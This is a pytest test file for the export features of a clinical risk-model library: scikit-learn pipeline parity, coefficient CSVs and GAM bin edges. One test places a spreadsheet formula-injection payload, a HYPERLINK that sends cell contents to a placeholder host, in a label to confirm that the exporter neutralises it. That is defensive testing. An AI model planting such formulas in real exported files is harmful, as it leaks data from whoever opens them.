"""Exports: a plain scikit-learn Pipeline that predicts exactly as ragim; coefficients as CSV."""

from __future__ import annotations

import pickle

import numpy as np
import pandas as pd
import pytest

from ragim import TaskIndex, datasets
from ragim.errors import DataWarning, ValidationError
from ragim.estimator import neighbor_mean
from ragim.explain import explain_params
from ragim.export import (
    coefficients_frame,
    read_frame,
    save_coefficients_csv,
    to_sklearn_pipeline,
)
from ragim.models import GAMModel, LogisticModel, model_from_params
from ragim.params import ModelParams

Z95 = 1.959963984540054


@pytest.fixture(scope="module")
def heart():
    tasks = datasets.heart_disease()
    train, held_out = tasks.group_split("site", ["Switzerland"])
    index = TaskIndex.build(train, embedder="hashing", progress=False)
    params = neighbor_mean(index, held_out["switzerland-any_cad-all"].description, k=8)
    rows = (
        pd.concat([t.X for t in tasks], ignore_index=True).drop_duplicates().reset_index(drop=True)
    )
    return params, rows


def _estimators(obj):
    """Every estimator inside a (nested) scikit-learn object."""
    yield obj
    for name in ("steps", "transformers_", "transformer_list"):
        for item in getattr(obj, name, None) or []:
            sub = item[1]
            if hasattr(sub, "get_params"):
                yield from _estimators(sub)


def test_pipeline_predicts_as_ragim_on_real_rows_with_categories_and_missing_values(heart):
    params, rows = heart
    assert sum(v is None for v in rows["thal"]) > 100  # real missing categories (None) ...
    assert (
        rows["chol"].isna().sum() > 100 and rows["ca"].isna().sum() > 100
    )  # ... and missing numbers (NaN)
    pipe = to_sklearn_pipeline(params)
    ours = model_from_params(params).predict_proba(rows)
    theirs = pipe.predict_proba(rows)
    assert theirs.shape == (len(rows), 2)
    np.testing.assert_allclose(theirs, ours, rtol=0, atol=1e-12)
    # a row with every feature missing, and an unseen category, behave as in ragim too
    odd = rows.iloc[:2].copy()
    odd.loc[odd.index[0], :] = None
    odd.loc[odd.index[0], ["age", "sex"]] = [
        55.0,
        1.0,
    ]  # the two features that allow no missing value
    odd.loc[odd.index[1], "thal"] = "never seen"
    np.testing.assert_allclose(
        pipe.predict_proba(odd), model_from_params(params).predict_proba(odd), atol=1e-12
    )


def test_pipeline_is_made_of_scikit_learn_classes_only(heart):
    params, rows = heart
    pipe = to_sklearn_pipeline(params)
    mods = {type(e).__module__ for e in _estimators(pipe)}
    assert mods and all(m.startswith("sklearn.") for m in mods), mods
    assert [name for name, _ in pipe.steps] == ["preprocess", "logistic"]
    # columns are selected by name: order and extra columns do not matter
    shuffled = rows[rows.columns[::-1]].assign(extra=1)
    np.testing.assert_allclose(pipe.predict_proba(shuffled), pipe.predict_proba(rows))
    assert list(pipe.classes_) == [0, 1]


def test_pipeline_coefficients_are_per_raw_unit(heart):
    params, _ = heart
    lr = to_sklearn_pipeline(params).named_steps["logistic"]
    schema = params.schema
    names = list(to_sklearn_pipeline(params).named_steps["preprocess"].get_feature_names_out())
    age = names.index("age")
    assert lr.coef_[0, age] == pytest.approx(params["age"] / schema.scales_["age"])


def test_numeric_categories_and_a_fitted_model(tmp_path):
    rng = np.random.default_rng(0)
    X = pd.DataFrame(
        {"grade": rng.choice([1, 2, 3], 120).astype(float), "lactate": rng.normal(2, 1, 120)}
    )
    X.loc[::7, "grade"] = np.nan
    X.loc[::5, "lactate"] = np.nan
    from ragim.schema import Feature, FeatureSchema

    schema = FeatureSchema(
        [Feature("grade", "categorical"), Feature("lactate", unit="mmol/L")]
    ).fit(X)
    y = (rng.random(120) < 0.4).astype(int)
    model = LogisticModel(schema=schema).fit(X, y)
    pipe = to_sklearn_pipeline(model.to_params())
    np.testing.assert_allclose(pipe.predict_proba(X), model.predict_proba(X), atol=1e-12)


def test_gam_exports_to_interpret_not_sklearn(heart):
    _, rows = heart
    X = rows[["age", "chol"]].head(80)
    y = (X["age"].to_numpy() > 55).astype(int)
    gam = GAMModel(max_rounds=20).fit(X, y)
    with pytest.raises(ValidationError, match="to_interpret"):
        to_sklearn_pipeline(gam.to_params())
    ebm = gam.to_interpret()  # the existing GAM -> EBM export
    np.testing.assert_allclose(ebm.predict_proba(X)[:, 1], gam.predict_proba(X)[:, 1], atol=1e-6)


def test_coefficients_frame_and_csv(heart, tmp_path):
    params, _ = heart
    std = np.full(len(params), 0.1)
    p = params.replace(std=std)
    frame = coefficients_frame(p)
    assert list(frame["term"]) == p.names and frame["label"].iloc[0] == "intercept"
    np.testing.assert_allclose(frame["model_coef"], p.vector)  # the parameters: rebuild the model
    plain = (frame["type"] != "categorical").to_numpy().copy()
    plain[0] = False  # the intercept: the reference patient's (test below)
    np.testing.assert_allclose(frame["coef"][plain], p.vector[plain])
    np.testing.assert_allclose(frame["ci_low"][plain], p.vector[plain] - Z95 * 0.1)
    np.testing.assert_allclose(frame["or_ci_high"][plain], np.exp(p.vector[plain] + Z95 * 0.1))
    # a categorical level's row is its effect against the reference level, as explain's table
    # says: coef, its interval and the odds ratios all on that one scale
    table = explain_params(p).table(missing=True).set_index("term")
    cat = frame["type"] == "categorical"
    levels = frame[cat & (frame["category"] != frame["reference"])]
    assert len(levels) >= 3
    for _, row in levels.iterrows():
        want = table.loc[row["term"]]
        assert row["coef"] == pytest.approx(want["coef"])
        assert row["coef_per_unit"] == pytest.approx(want["coef"])
        assert (row["ci_low"], row["ci_high"]) == pytest.approx((want["ci_low"], want["ci_high"]))
        assert row["odds_ratio_per_sd"] == pytest.approx(want["odds_ratio"])
        assert row["odds_ratio_per_unit"] == pytest.approx(want["odds_ratio"])
        assert row["or_ci_low"] == pytest.approx(want["or_low"])
        assert row["or_ci_high"] == pytest.approx(want["or_high"])
    np.testing.assert_allclose(frame["or_ci_low"][1:], np.exp(frame["ci_low"][1:]))
    refs = frame[cat & (frame["category"] == frame["reference"])]
    assert len(refs) >= 1 and (refs["odds_ratio_per_sd"] == 1.0).all()
    assert (refs[["coef", "ci_low", "ci_high"]] == 0.0).all().all()
    # the intercept has no odds ratio: no odds-ratio interval beside a NaN odds ratio
    assert frame.loc[0, ["odds_ratio_per_sd", "or_ci_low", "or_ci_high"]].isna().all()
    row = frame.set_index("term").loc["cp[asymptomatic]"]
    assert row["label"] == "Chest-pain type = asymptomatic" and row["reference"] == "typical angina"
    path = save_coefficients_csv(p, tmp_path / "sub" / "coef.csv")
    back = pd.read_csv(path)
    assert list(back["term"]) == p.names and not list(tmp_path.joinpath("sub").glob(".*tmp"))
    np.testing.assert_allclose(back["model_coef"], p.vector, rtol=1e-5)
    values = dict(zip(back["term"], back["model_coef"], strict=True))
    rebuilt = ModelParams.from_dict("logistic", p.schema, values)
    np.testing.assert_allclose(rebuilt.vector, p.vector, rtol=1e-5)
    no_std = coefficients_frame(params)
    assert no_std["ci_low"].isna().all()
    with pytest.raises(ValidationError, match="needs ModelParams"):
        coefficients_frame("nope")


def test_gam_coefficients_frame():
    X = pd.DataFrame({"age": np.linspace(30, 80, 60)})
    from ragim.schema import FeatureSchema

    schema = FeatureSchema.infer(X).fit(X)
    p = ModelParams.zeros("gam", schema)
    frame = coefficients_frame(p)
    assert (
        list(frame["term"]) == p.names and "bin_label" in frame.columns and "score" in frame.columns
    )


def test_gam_bins_cover_every_value_with_their_exported_bounds(heart, tmp_path):
    """A continuous feature's bins, as exported, hold bin_low <= x < bin_high: the open end
    bins run to -inf and inf as their names say, so every patient (the youngest and oldest
    included, and ages beyond the fitted rows) falls in exactly the bin the model scores."""
    _, rows = heart
    X = rows[["age", "sex", "cp"]].head(150)
    y = (X["age"].to_numpy() > 55).astype(int)
    gam = GAMModel(max_rounds=5).fit(X, y)
    params = gam.to_params()
    frame = coefficients_frame(params)
    age = frame[(frame["feature"] == "age") & frame["is_missing_bin"].eq(False)]
    assert age["term"].iloc[0].startswith("age[-inf..") and age["term"].iloc[-1].endswith("..inf]")
    assert age["bin_low"].iloc[0] == -np.inf and age["bin_high"].iloc[-1] == np.inf
    assert np.isfinite(age["bin_low"].iloc[1:]).all() and np.isfinite(age["bin_high"].iloc[:-1]).all()
    np.testing.assert_array_equal(age["bin_low"].iloc[1:], age["bin_high"].iloc[:-1])  # no gaps
    ages = np.r_[X["age"].dropna().to_numpy(float), 5.0, 120.0]
    inside = (age["bin_low"].to_numpy()[:, None] <= ages) & (ages < age["bin_high"].to_numpy()[:, None])
    assert (inside.sum(0) == 1).all()
    j = list(params.schema.names).index("age")
    scored = params.schema.bin_indices(pd.DataFrame({**{c: X[c].iloc[0] for c in X}, "age": ages}))[:, j]
    np.testing.assert_array_equal(inside.argmax(0), scored)
    assert frame.loc[frame["feature"] == "cp", ["bin_low", "bin_high"]].isna().all().all()
    save_coefficients_csv(params, tmp_path / "gam.csv")
    back = pd.read_csv(tmp_path / "gam.csv")
    assert back.loc[back["term"] == age["term"].iloc[0], "bin_low"].item() == -np.inf
    assert back.loc[back["term"] == age["term"].iloc[-1], "bin_high"].item() == np.inf
    rows = [r for r in explain_params(params).data()["terms"] if r["feature"] == "age"]
    assert rows[0]["bin_low"] == "-inf" and rows[-2 if rows[-1]["is_missing_bin"] else -1]["bin_high"] == "inf"
    assert gam.explain().plot() is not None  # the open ends are drawn half a bin wide


@pytest.fixture(scope="module")
def mixed_model():
    """A logistic model over a continuous, a binary, a numeric-coded and a text categorical
    feature, all with missing values in training."""
    from ragim.schema import Feature, FeatureSchema

    rng = np.random.default_rng(1)
    n = 300
    X = pd.DataFrame(
        {
            "lactate": rng.normal(2, 1, n),
            "male": rng.integers(0, 2, n).astype(float),
            "ward": rng.integers(1, 4, n).astype(float),
            "cp": rng.choice(["typical", "atypical", "none"], n).astype(object),
        }
    )
    for j, col in enumerate(X.columns):
        X.loc[X.index[j::9], col] = None
    schema = FeatureSchema(
        [
            Feature("lactate"),
            Feature("male", "binary"),
            Feature("ward", "categorical"),
            Feature("cp", "categorical"),
        ]
    ).fit(X)
    ward = X["ward"].fillna(0).to_numpy()
    y = (
        rng.random(n) < 1 / (1 + np.exp(-(X["lactate"].fillna(2) - 2 + (ward == 3) - (ward == 2))))
    ).astype(int)
    return LogisticModel(schema=schema).fit(X, y)


def _mixed_rows():
    """Every form ragim reads: text codes, ints, floats, bools, numerals as text, NaN, None, pd.NA."""
    return pd.DataFrame(
        {
            "lactate": pd.Series(
                [1, 2.5, "3.5", None, np.nan, " 0.5 ", True, 4, pd.NA], dtype=object
            ),
            "male": pd.Series([True, False, 1, 0.0, None, "1", np.nan, 1, 0], dtype=object),
            "ward": pd.Series(["2", 2, 3.0, "03", True, None, np.nan, "9", pd.NA], dtype=object),
            "cp": pd.Series(
                [
                    " typical",
                    "atypical",
                    None,
                    "none",
                    np.nan,
                    "never seen",
                    "typical",
                    "none",
                    "atypical",
                ],
                dtype=object,
            ),
        }
    )


def test_pipeline_reads_every_form_of_value_as_ragim(mixed_model):
    """Category codes as text ("2" for 2) were silently unknown to the exported pipeline
    (risks off by up to 0.29); now every value ragim accepts gives ragim's risk."""
    pipe = pickle.loads(pickle.dumps(to_sklearn_pipeline(mixed_model.to_params())))
    rows = _mixed_rows()
    with pytest.warns(DataWarning):  # ragim warns about the unseen ward "9" and cp level
        ours = mixed_model.predict_proba(rows)
    np.testing.assert_allclose(pipe.predict_proba(rows), ours, rtol=0, atol=1e-12)
    # the text code "2" is level 2: same risk as the integer 2 in the same row
    as_int = rows.assign(ward=[2] * len(rows))
    as_text = rows.assign(ward=["2"] * len(rows))
    np.testing.assert_allclose(pipe.predict_proba(as_text), pipe.predict_proba(as_int), atol=1e-15)
    # pandas categorical columns, of numeric and of text categories
    cat = rows.assign(
        ward=pd.Series([2, 3, 1, None, 2, 3, 1, 2, None], dtype="category"),
        cp=rows["cp"].astype("category"),
    )
    with pytest.warns(DataWarning):
        ours = mixed_model.predict_proba(cat)
    np.testing.assert_allclose(pipe.predict_proba(cat), ours, rtol=0, atol=1e-12)


def test_pipeline_refuses_what_ragim_refuses_in_one_line(mixed_model):
    pipe = to_sklearn_pipeline(mixed_model.to_params())
    rows = _mixed_rows()
    for col, bad, what in [
        ("lactate", "high", "non-numeric"),
        ("lactate", np.inf, "infinite"),
        ("male", 2, "other than 0/1"),
    ]:
        odd = rows.assign(**{col: [bad] * len(rows)})
        with pytest.raises(ValidationError, match=what) as err:
            pipe.predict_proba(odd)
        assert "\n" not in str(err.value) and col in str(err.value)
        with pytest.raises(ValidationError, match=what):
            mixed_model.predict_proba(odd)


def test_pipeline_takes_integer_and_boolean_columns(mixed_model):
    """Integer columns (what read_csv gives for ages, 0/1 flags and codes) crashed the exported
    pipeline's imputer ("cannot be cast to int64"); now they give ragim's risks."""
    pipe = to_sklearn_pipeline(mixed_model.to_params())
    rows = pd.DataFrame(
        {
            "lactate": np.array([1, 2, 3, 4], dtype=np.int64),
            "male": np.array([1, 0, 1, 0], dtype=np.int64),
            "ward": np.array([1, 2, 3, 2], dtype=np.int64),
            "cp": ["typical", "atypical", "none", "typical"],
        }
    )
    for frame in (rows, rows.assign(male=rows["male"].astype(bool))):
        np.testing.assert_allclose(
            pipe.predict_proba(frame), mixed_model.predict_proba(frame), rtol=0, atol=1e-12
        )
    nullable = rows.assign(lactate=pd.array([1, None, 3, 4], dtype="Int64"))
    np.testing.assert_allclose(
        pipe.predict_proba(nullable), mixed_model.predict_proba(nullable), rtol=0, atol=1e-12
    )


def test_a_real_level_named_like_a_placeholder_is_not_read_as_missing():
    """A category whose text looks like a missing-value placeholder ("(missing)") stays a real
    level in the exported pipeline, apart from rows where the value is truly missing."""
    rng = np.random.default_rng(3)
    X = pd.DataFrame(
        {"ward": rng.choice(["(missing)", "icu", "general"], 150), "age": rng.normal(60, 9, 150)}
    ).astype({"ward": object})
    X.loc[::6, "ward"] = None
    y = ((X["ward"] == "(missing)") | (rng.random(150) < 0.2)).astype(int)
    model = LogisticModel().fit(X, y)
    pipe = to_sklearn_pipeline(model.to_params())
    np.testing.assert_allclose(pipe.predict_proba(X), model.predict_proba(X), atol=1e-12)
    real, missing = X.iloc[[1]].copy(), X.iloc[[1]].copy()
    real["ward"], missing["ward"] = "(missing)", None
    assert pipe.predict_proba(real)[0, 1] != pytest.approx(pipe.predict_proba(missing)[0, 1])


def test_csv_text_cells_are_never_spreadsheet_formulas(tmp_path):
    """A received model's label or unit (``=HYPERLINK(...)``, ``=2+3``) and the ``change`` column's
    own ``+1 SD = 1.03`` were written verbatim, and a spreadsheet runs them as formulas; every
    such text cell now starts with a single quote (OWASP), numbers stay numbers."""
    from ragim.export import spreadsheet_safe, write_csv
    from ragim.schema import FeatureSchema

    X = pd.DataFrame({"crp": np.linspace(1, 9, 40), "age": np.linspace(30, 80, 40)})
    d = FeatureSchema.infer(X).fit(X).to_dict()
    d["features"][0].update(label='=HYPERLINK("http://x.example/?"&A2,"crp")', unit="=2+3")
    p = ModelParams("logistic", FeatureSchema.from_dict(d), np.array([0.1, -0.5, 0.2]))
    back = pd.read_csv(save_coefficients_csv(p, tmp_path / "c.csv"))
    text = [c for c in back.select_dtypes(exclude="number").to_numpy().ravel() if isinstance(c, str)]
    assert "'+1 SD = 1" in " ".join(text)
    assert not [c for c in text if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text
    crp = back.set_index("term").loc["crp"]
    assert crp["label"].startswith("'=HYPERLINK(") and crp["unit"] == "'=2+3"
    assert crp["change"].startswith("'+1 SD")
    assert back["model_coef"].tolist() == pytest.approx([0.1, -0.5, 0.2])  # numbers, unquoted
    table = pd.DataFrame({"row": [0, 1], "patient_id": ["@p1", "p2"], "risk": [-0.0, 0.5]})
    assert pd.read_csv(write_csv(table, tmp_path / "r.csv"))["patient_id"].tolist() == ["'@p1", "p2"]
    assert spreadsheet_safe(table)["risk"].tolist() == [0.0, 0.5]


def test_the_csv_keeps_every_number_exactly(tmp_path):
    """Bin edges on a large scale (white cells per litre) and the model's own parameters read
    back from the CSV exactly: rounded to 6 digits (4648858696.125 -> 4648860000), values
    between the two fell in another bin by the CSV than by ragim."""
    rng = np.random.default_rng(5)
    X = pd.DataFrame({"wbc_per_L": np.round(rng.normal(7.5e9, 2.5e9, 300)) + 0.125})
    y = (rng.random(300) < 1 / (1 + np.exp(-(X["wbc_per_L"] - 7.5e9) / 2.5e9))).astype(int)
    params = GAMModel(max_rounds=5).fit(X, y).to_params()
    frame = coefficients_frame(params)
    back = pd.read_csv(save_coefficients_csv(params, tmp_path / "gam.csv"))
    for column in ("bin_low", "bin_high", "model_coef", "score", "std"):
        if column in frame.columns:
            np.testing.assert_array_equal(back[column].to_numpy(float), frame[column].to_numpy(float))
    edges = frame["bin_low"].to_numpy(float)
    assert any(e != float(f"{e:.6g}") for e in edges[np.isfinite(edges)])  # the case that broke


def test_the_coefficients_table_keeps_the_explanations_caveats():
    """A term constant within every task a generated model learned from, and a term the data
    cannot estimate, are marked in the table as the explanation marks them."""
    rng = np.random.default_rng(0)
    X = pd.DataFrame({"age": rng.normal(60, 10, 200), "beds": 300.0, "smoker": 0})
    y = (rng.random(200) < 0.3).astype(int)
    params = LogisticModel().fit(X, y).to_params()
    params.metadata["between_tasks"] = ["beds"]
    frame = coefficients_frame(params).set_index("term")
    assert frame.loc["beds", "between_tasks"] and not frame.loc["age", "between_tasks"]
    assert "never" in frame.loc["smoker", "not_estimable"] and frame.loc["age", "not_estimable"] == ""
    assert "varies only between tasks: beds" in str(explain_params(params))


def test_csv_intercept_is_the_reference_patients_as_explain_prints(heart):
    """The CSV's intercept row was the raw parameter (a patient with no categorical level at
    all: -0.999 on a heart model) beside level rows that compare with the reference level, and
    `ragim explain` printed -2.215, the reference patient's: intercept + a patient's rows gave
    the wrong log-odds. The row is now the reference patient's log-odds with its interval;
    model_coef keeps the parameter (which rebuilds the model)."""
    params, _ = heart
    rng = np.random.default_rng(0)
    p = params.replace(std=np.full(len(params), 0.1))
    frame = coefficients_frame(p).set_index("term")
    expl = explain_params(p)
    value, sd, refs = expl.reference_intercept()
    row = frame.loc["intercept"]
    assert row["coef"] == pytest.approx(value) and row["std"] == pytest.approx(sd)
    assert (row["ci_low"], row["ci_high"]) == pytest.approx((value - Z95 * sd, value + Z95 * sd))
    assert row["coef"] != pytest.approx(p.intercept)  # the heart schema has categories
    assert (row["model_coef"], row["model_std"]) == pytest.approx((p.intercept, 0.1))
    assert row["reference"] == ", ".join(refs) and "reference patient" in row["change"]
    assert f"{value:+.3f}" in expl.baseline()
    # by hand: the intercept plus one patient's rows (each level against its reference level,
    # continuous per SD from the mean, binary 0->1) is that patient's log-odds
    schema = p.schema
    patient = {}
    z = row["coef"]
    for f in schema.features:
        if f.type == "categorical":
            level = schema.categories_[f.name][-1]
            patient[f.name] = level
            z += frame.loc[f"{f.name}[{level}]", "coef"]
        elif f.type == "binary":
            patient[f.name] = 1.0
            z += frame.loc[f.name, "coef"]
        else:
            sds = float(rng.normal())
            patient[f.name] = schema.means_[f.name] + sds * schema.scales_[f.name]
            z += sds * frame.loc[f.name, "coef"]
    assert z == pytest.approx(p.log_odds(pd.DataFrame([patient]))[0])


def _rescore_from_csv(csv: pd.DataFrame, schema, X: pd.DataFrame) -> np.ndarray:
    """A patient's log-odds from the exported table alone, as coefficients_frame documents."""
    rows = csv.set_index("term")
    out = np.full(len(X), rows.loc["intercept", "coef"])
    for i, (_, patient) in enumerate(X.iterrows()):
        for f in schema.features:
            x, missing = patient[f.name], f"{f.name}__missing"
            blank = pd.isna(x)
            if f.type == "categorical":
                level = f"{f.name}[{x}]"
                if blank and missing in rows.index:
                    out[i] += rows.loc[missing, "coef"]
                elif not blank and level in rows.index:
                    out[i] += rows.loc[level, "coef"]
                else:  # no level at all: minus the reference level's own parameter
                    out[i] -= rows.loc[f"{f.name}[{schema.categories_[f.name][0]}]", "model_coef"]
                continue
            row = rows.loc[f.name]
            value = row["fill"] if blank else float(x)
            if f.type == "continuous":
                out[i] += row["coef_per_unit"] * (value - row["center"])
            else:
                out[i] += row["coef"] * value
            if blank and missing in rows.index:
                out[i] += rows.loc[missing, "coef"]
    return out


def test_a_patient_is_rescored_from_the_csv_alone(heart, tmp_path):
    """The CSV gave continuous effects per SD and per unit, but neither the mean they are
    measured from (the reference patient's value) nor the value a blank is scored as (the
    training median): no patient could be re-scored from the exported file. Its center and
    fill columns now hold them, and the documented sum reproduces the model's log-odds."""
    params, rows = heart
    X = rows
    assert X.isna().any(axis=1).sum() > 50  # blanks in continuous, binary and categorical
    back = pd.read_csv(save_coefficients_csv(params, tmp_path / "c.csv"))
    row = back.set_index("term").loc["age"]
    assert row["center"] == pytest.approx(params.schema.means_["age"])
    assert row["fill"] == pytest.approx(params.schema.medians_["age"])
    assert back.set_index("term").loc["sex", ["center", "fill"]].tolist()[1] in (0.0, 1.0)
    assert back.loc[back["role"] != "value", ["center", "fill"]].isna().all().all()
    np.testing.assert_allclose(
        _rescore_from_csv(back, params.schema, X), params.log_odds(X), rtol=1e-9, atol=1e-9
    )


def test_pipeline_exports_a_binary_feature_whose_median_is_one_half():
    """A binary feature with as many 1s as 0s has a training median of 0.5, which ragim scores a
    blank as; the pipeline was refused ('binary column has values other than 0/1: [0.5]')
    because it fitted its imputer on that median. It exports and predicts as ragim, blanks
    included, with and without a missing-value indicator."""
    rng = np.random.default_rng(3)
    X = pd.DataFrame({"age": rng.normal(60, 10, 200), "flag": np.repeat([0.0, 1.0], 100)})
    y = (rng.random(200) < 0.4).astype(int)
    rows = pd.DataFrame({"age": [60.0, 50.0, 70.0], "flag": [np.nan, 1.0, 0.0]})
    for train in (X, X.assign(flag=X["flag"].where(np.arange(200) % 50 != 0))):
        model = LogisticModel().fit(train, y)
        assert model.to_params().schema.medians_["flag"] == 0.5
        pipe = to_sklearn_pipeline(model.to_params())
        np.testing.assert_allclose(
            pipe.predict_proba(rows), model.predict_proba(rows), rtol=0, atol=1e-12
        )


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_the_interpret_ebm_scores_as_the_gam_on_values_as_ragim_reads_them():
    """interpret reads raw values by its own rules: a ward written "4.0" or " 4", a blank text
    cell or "true" in a binary column got another risk from the exported EBM than from the GAM,
    silently (0.4568 against 0.4520 for "4.0"). ``read_frame`` gives the values as ragim reads
    them, on which the two agree, whatever form the rows came in."""
    rng = np.random.default_rng(5)
    n = 300
    X = pd.DataFrame({
        "age": rng.normal(60, 15, n), "ward": rng.choice([1, 2, 4], n),
        "crp": rng.lognormal(2, 1, n), "sex": rng.integers(0, 2, n).astype(float),
    })
    X.loc[::7, "crp"] = np.nan
    X.loc[::11, "ward"] = np.nan
    y = (rng.random(n) < 1 / (1 + np.exp(-(X["age"] - 60) / 10))).astype(int)
    from ragim.schema import FeatureSchema

    gam = GAMModel(schema=FeatureSchema.infer(X, types={"ward": "categorical"})).fit(X, y)
    ebm = gam.to_interpret()
    odd = pd.DataFrame({
        "age": ["61", 5.0, 200.0, None, 60.0, 60.0],
        "ward": ["4.0", " 4", "", 7, "2", None],
        "crp": ["", 3.0, 1e6, -5.0, "10", np.nan],
        "sex": ["true", True, 0, "1", None, 1.0],
    }, dtype=object)
    np.testing.assert_allclose(
        ebm.predict_proba(read_frame(odd, gam.schema_)), gam.predict_proba(odd), rtol=0,
        atol=1e-12,
    )
    np.testing.assert_allclose(
        ebm.predict_proba(read_frame(X, gam.schema_)), gam.predict_proba(X), rtol=0, atol=1e-12
    )
    with pytest.raises(ValidationError, match="fitted schema"):
        read_frame(X, gam.schema)  # the schema given to the model, not fitted
    with pytest.raises(ValidationError, match=r"missing the model's columns \['sex'\]"):
        read_frame(X.drop(columns="sex"), gam.schema_)
